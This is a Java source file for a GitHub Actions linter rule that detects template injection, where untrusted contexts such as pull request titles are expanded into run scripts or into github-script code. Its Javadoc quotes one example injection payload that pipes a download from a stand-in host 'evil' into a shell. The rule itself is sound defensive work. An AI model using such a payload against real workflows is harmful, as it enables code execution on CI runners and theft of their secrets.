package dev.pipewright.lint.audit;

import dev.pipewright.github.Uses;
import dev.pipewright.lint.Fix;
import dev.pipewright.lint.LintContext;
import dev.pipewright.lint.Rule;
import dev.pipewright.lint.Severity;
import dev.pipewright.lint.Workflow;
import dev.pipewright.lint.rule.Locator;
import dev.pipewright.lint.yaml.YMap;
import dev.pipewright.lint.yaml.YScalar;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

/**
 * Attacker-controlled text expanded by {@code ${{ }}} into a {@code run:} script or an input a
 * well-known action runs as code ({@link InjectionSinks}: {@code actions/github-script}'s {@code
 * script}, {@code azure/cli}'s {@code inlineScript}, {@code mikefarah/yq}'s {@code cmd}, ...): the
 * runner pastes the text into the script before the shell or interpreter parses it, so a pull
 * request title such as {@code "; curl evil | sh #} runs as code. In a composite action the
 * action's own {@code inputs.*} count as attacker-controlled, as zizmor rates them: the action
 * cannot know what its callers pass.
 */
@Rule(
        id = "template-injection",
        summary = "untrusted contexts are not expanded into run scripts or github-script code",
        severity = Severity.ERROR,
        category = "security")
@Audit(severity = Audit.Level.HIGH, confidence = Audit.Confidence.HIGH, fixable = true)
public final class TemplateInjectionAudit extends AuditRule {
    /**
     * One untrusted expansion: the scalar, the expression, the untrusted path it reads, whether the
     * scalar is a {@code run:} script, and otherwise the action and input that run it as code.
     */
    public record Injection(
            YScalar script, Exprs.Span span, String path, boolean run, String sink) {
        /**
         * What the scalar is, for messages: "run script", "github-script code", "azure/cli
         * inlineScript input".
         */
        String where() {
            return run
                    ? "run script"
                    : sink.equals("actions/github-script script")
                            ? "github-script code"
                            : sink + " input";
        }

        /** How the code reads the value once it is in the environment. */
        String read(String var) {
            return run
                    ? "\"$" + var + "\""
                    : sink.startsWith("actions/github-script ") ? "process.env." + var : "$" + var;
        }
    }

    /** The job whose workflow- and job-level env {@link #jobCarried} holds. */
    private YScalar carriedJob;

    private Map<String, String[]> jobCarried;

    /** The job whose steps are being visited, for the shell its defaults set. */
    private Workflow.Job job;

    /** The expansions of the current step reported as injections, by script: not code smells. */
    private final Map<YScalar, Set<Integer>> reported = new IdentityHashMap<>();

    @Override
    public void visitJob(Workflow.Job job) {
        this.job = job;
    }

    @Override
    public void visitStep(Workflow.Step step) {
        List<Injection> found = find(step.body());
        List<Injection> inRun = found.stream().filter(Injection::run).toList();
        reportAll(
                found,
                inRun.isEmpty()
                        ? null
                        : TemplateInjectionFix.of(
                                ctx().offsets(), currentWorkflow(), job, step, inRun));
        checkEnv(step);
        reportSmells(targets(step.body()));
    }

    /**
     * The pedantic persona's code smell, as zizmor's: any other {@code ${{ }}} in a script or code
     * input, even of a value no outsider controls, is pasted into the code before it is parsed, so
     * the code's meaning depends on the value (a quote in a branch name, a newline in an input);
     * the environment carries values without that risk.
     */
    private void reportSmells(List<Target> targets) {
        if (policy().pedantic()) {
            for (Target t : targets) {
                YScalar script = t.script();
                Set<Integer> done = reported.getOrDefault(script, Set.of());
                for (Exprs.Span span : Exprs.spans(script.value())) {
                    if (done.contains(span.start())) {
                        continue;
                    }
                    report(
                            Persona.PEDANTIC,
                            Locator.at(ctx(), script, span.start()),
                            Severity.NOTE,
                            "\""
                                    + span.whole(script.value()).strip()
                                    + "\" is expanded into the "
                                    + (t.run() ? "run script" : t.sink() + " input")
                                    + " before it is parsed, so the code depends on the value;"
                                    + " pass it through the step's env: and use the variable");
                }
            }
        }
        reported.clear();
    }

    /**
     * {@code ${{ env.X }}} where X is set (in the workflow's, the job's or the step's {@code env:},
     * the innermost winning) to attacker-controlled text: the expansion pastes that text into the
     * script just the same. Not fixed by {@code --fix}: the variable is already in the environment,
     * the script only has to read it.
     */
    private void checkEnv(Workflow.Step step) {
        if (step.jobId() != carriedJob) {
            // The workflow's and the job's env: the same for every step of the job, so read once
            // per job.
            Workflow wf = currentWorkflow();
            jobCarried = new HashMap<>();
            carry(wf.root().map("env"), jobCarried);
            carry(wf.job(step.jobId().value()).flatMap(j -> j.body().map("env")), jobCarried);
            carriedJob = step.jobId();
        }
        Optional<YMap> stepEnv = step.body().map("env");
        Map<String, String[]> carried =
                stepEnv.isPresent() ? new HashMap<>(jobCarried) : jobCarried;
        carry(stepEnv, carried);
        if (carried.isEmpty()) {
            return;
        }
        YMap body = step.body();
        for (Target t : targets(body)) {
            reportEnv(t, carried);
        }
    }

    /** A scalar that runs as code: a {@code run:} script or a sink input of a known action. */
    private record Target(YScalar script, boolean run, String sink) {}

    private static List<Target> targets(YMap step) {
        List<Target> out = new ArrayList<>();
        step.scalar("run")
                .filter(YScalar::isString)
                .ifPresent(run -> out.add(new Target(run, true, null)));
        step.string("uses")
                .flatMap(InjectionSinks::of)
                .ifPresent(
                        inputs ->
                                step.map("with")
                                        .ifPresent(
                                                with -> {
                                                    for (YMap.Entry e : with.entries()) {
                                                        if (inputs.contains(
                                                                        e.key()
                                                                                .value()
                                                                                .toLowerCase(
                                                                                        Locale
                                                                                                .ROOT))
                                                                && e.value() instanceof YScalar v
                                                                && v.isString()) {
                                                            String action =
                                                                    step.string("uses")
                                                                            .flatMap(Uses::parse)
                                                                            .map(
                                                                                    u ->
                                                                                            u.repository()
                                                                                                    .toLowerCase(
                                                                                                            Locale
                                                                                                                    .ROOT))
                                                                            .orElseThrow();
                                                            out.add(
                                                                    new Target(
                                                                            v,
                                                                            false,
                                                                            action
                                                                                    + " "
                                                                                    + e.key()
                                                                                            .value()));
                                                        }
                                                    }
                                                }));
        return out;
    }

    /**
     * Adds an env layer's untrusted values to {@code carried}, and drops the names it sets to
     * anything else.
     */
    private static void carry(Optional<YMap> layer, Map<String, String[]> carried) {
        layer.ifPresent(
                env ->
                        env.entries()
                                .forEach(
                                        e -> {
                                            String name = e.key().value();
                                            String path =
                                                    e.value() instanceof YScalar v && v.isString()
                                                            ? untrusted(v.value())
                                                            : null;
                                            if (path == null) {
                                                carried.remove(name.toLowerCase(Locale.ROOT));
                                            } else {
                                                carried.put(
                                                        name.toLowerCase(Locale.ROOT),
                                                        new String[] {name, path});
                                            }
                                        }));
    }

    private void reportEnv(Target t, Map<String, String[]> carried) {
        YScalar script = t.script();
        for (Exprs.Span span : Exprs.spans(script.value())) {
            if (span.ast() == null
                    || Exprs.isBooleanValued(span.ast())
                    || Exprs.accesses(span.ast()).stream().anyMatch(Untrusted::isUntrusted)) {
                continue; // direct expansions are reported by reportAll()
            }
            Exprs.accesses(span.ast()).stream()
                    .filter(a -> a.path().startsWith("env."))
                    .map(a -> carried.get(a.path().substring(4)))
                    .filter(c -> c != null)
                    .findFirst()
                    .ifPresent(
                            c -> {
                                mark(script, span);
                                Injection as = new Injection(script, span, c[1], t.run(), t.sink());
                                report(
                                        Locator.at(ctx(), script, span.start()),
                                        "\""
                                                + span.whole(script.value()).strip()
                                                + "\" expands env."
                                                + c[0]
                                                + ", which carries attacker-controlled "
                                                + c[1]
                                                + ", into the "
                                                + as.where()
                                                + "; use "
                                                + as.read(c[0])
                                                + " instead");
                            });
        }
    }

    /** The first attacker-controlled path a value expands (not as a boolean), or null. */
    private static String untrusted(String value) {
        for (Exprs.Span span : Exprs.spans(value)) {
            if (span.ast() != null && !Exprs.isBooleanValued(span.ast())) {
                var a =
                        Exprs.accesses(span.ast()).stream()
                                .filter(Untrusted::isUntrusted)
                                .findFirst();
                if (a.isPresent()) {
                    return a.get().path();
                }
            }
        }
        return null;
    }

    @Override
    public void visitAction(LintContext.ActionFile action) {
        // An action's inputs are whatever its callers pass, pull request titles included: zizmor
        // rates them arbitrary.
        Set<String> inputs = new HashSet<>();
        action.root()
                .map("inputs")
                .ifPresent(
                        m ->
                                m.entries()
                                        .forEach(
                                                e ->
                                                        inputs.add(
                                                                e.key()
                                                                        .value()
                                                                        .toLowerCase(
                                                                                Locale.ROOT))));
        compositeSteps(action)
                .forEach(
                        step -> {
                            reportAll(find(step, inputs), null);
                            reportSmells(targets(step));
                        });
    }

    private void mark(YScalar script, Exprs.Span span) {
        reported.computeIfAbsent(script, k -> new HashSet<>()).add(span.start());
    }

    /**
     * Reports each expansion; {@code runFix} (null: none) moves those in a run script, the other
     * sinks' stay.
     */
    private void reportAll(List<Injection> found, Fix runFix) {
        for (Injection i : found) {
            mark(i.script(), i.span());
            String var = EnvName.of(i.path());
            report(
                    Locator.at(ctx(), i.script(), i.span().start()),
                    "\""
                            + i.span().whole(i.script().value()).strip()
                            + "\" expands "
                            + (i.path().startsWith("inputs.")
                                    ? "the action input "
                                    : "attacker-controlled ")
                            + i.path()
                            + " into the "
                            + i.where()
                            + "; pass it through the step's env: (e.g. "
                            + var
                            + ": ${{ "
                            + i.span().text().strip()
                            + " }}) and use the variable ("
                            + i.read(var)
                            + ")",
                    i.run() ? runFix : null);
        }
    }

    /** The untrusted expansions of a workflow step, in source order. */
    public static List<Injection> find(YMap step) {
        return find(step, Set.of());
    }

    /**
     * The untrusted expansions of a step, in source order; {@code inputs} are the lower-cased names
     * of the inputs of the composite action the step belongs to, whose values its callers choose.
     */
    public static List<Injection> find(YMap step, Set<String> inputs) {
        List<Injection> out = new ArrayList<>();
        for (Target t : targets(step)) {
            scan(t, inputs, out);
        }
        return out;
    }

    private static void scan(Target t, Set<String> inputs, List<Injection> out) {
        YScalar script = t.script();
        for (Exprs.Span span : Exprs.spans(script.value())) {
            if (span.ast() == null || Exprs.isBooleanValued(span.ast())) {
                continue;
            }
            Exprs.accesses(span.ast()).stream()
                    .filter(a -> Untrusted.isUntrusted(a) || isInput(a.path(), inputs))
                    .findFirst()
                    .ifPresent(
                            a -> out.add(new Injection(script, span, a.path(), t.run(), t.sink())));
        }
    }

    private static boolean isInput(String path, Set<String> inputs) {
        return path.startsWith("inputs.")
                && inputs.contains(path.substring(7).toLowerCase(Locale.ROOT));
    }
}
